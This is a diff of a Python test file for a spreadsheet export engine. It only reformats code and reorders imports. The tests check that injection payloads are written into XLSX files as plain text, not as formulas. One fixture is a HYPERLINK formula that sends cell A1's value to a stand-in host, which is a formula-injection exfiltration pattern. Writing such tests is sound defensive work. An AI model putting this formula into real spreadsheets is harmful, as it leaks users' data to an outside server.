@@ -13,11 +13,11 @@ from pathlib import Path
 
 import pytest
 
-from workbook_engine.federation.anonymize import anonymize
 from workbook_engine.cli.main import main
-from workbook_engine.safety.gate import parse_xml
+from workbook_engine.federation.anonymize import anonymize
 from workbook_engine.formats.sample import load_sample
 from workbook_engine.formats.scenario_json import dumps_scenario, load_scenario_json
+from workbook_engine.safety.gate import parse_xml
 
 NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 STRUCTURE = '=HYPERLINK("http://example.invalid/?q="&A1,"Cliquez ici")'
@@ -30,9 +30,11 @@ PAYLOADS = (STRUCTURE, *GRID_NAMES, LABEL, *JSON_IDS, *CSV_IDS)
 
 def hostile_scenario():
     s = load_sample()
-    grids = tuple(replace(g, name=n, tranches=(replace(g.tranches[0], label=LABEL),) + g.tranches[1:])
-                  for g, n in zip(s.grids, GRID_NAMES))
-    families = tuple(replace(f, id=i) for f, i in zip(s.families, JSON_IDS)) + s.families[len(JSON_IDS):20]
+    grids = tuple(
+        replace(g, name=n, tranches=(replace(g.tranches[0], label=LABEL),) + g.tranches[1:])
+        for g, n in zip(s.grids, GRID_NAMES)
+    )
+    families = tuple(replace(f, id=i) for f, i in zip(s.families, JSON_IDS)) + s.families[len(JSON_IDS) : 20]
     return replace(s, structure=STRUCTURE, grids=grids, families=families)
 
 
@@ -43,8 +45,10 @@ def cells(path: Path) -> list[tuple[str, str, str | None, str | None]]:
         names = z.namelist()
         shared = []
         if "xl/sharedStrings.xml" in names:
-            shared = ["".join(t.text or "" for t in si.iter(f"{NS}t"))
-                      for si in parse_xml(z.read("xl/sharedStrings.xml")).iter(f"{NS}si")]
+            shared = [
+                "".join(t.text or "" for t in si.iter(f"{NS}t"))
+                for si in parse_xml(z.read("xl/sharedStrings.xml")).iter(f"{NS}si")
+            ]
         for part in (n for n in names if n.startswith("xl/worksheets/") and n.endswith(".xml")):
             for c in parse_xml(z.read(part)).iter(f"{NS}c"):
                 t = c.get("t", "n")
@@ -68,8 +72,9 @@ def assert_written_as_text(path: Path, payloads: tuple[str, ...]) -> None:
     formulas = [c[3] for c in found if c[3] is not None]
     for payload in payloads:
         holding = [c for c in found if c[2] == payload]
-        assert [c for c in holding if c[1] in ("s", "inlineStr") and c[3] is None], \
+        assert [c for c in holding if c[1] in ("s", "inlineStr") and c[3] is None], (
             f"{path.name}: « {payload} » is in no text cell: {holding}"
+        )
         body = payload[1:]
         for _part, t, _text, formula in holding:  # (a short body like "2" is in many formulas)
             assert formula is None or len(body) < 5 or body not in formula, (path.name, t, formula, payload)
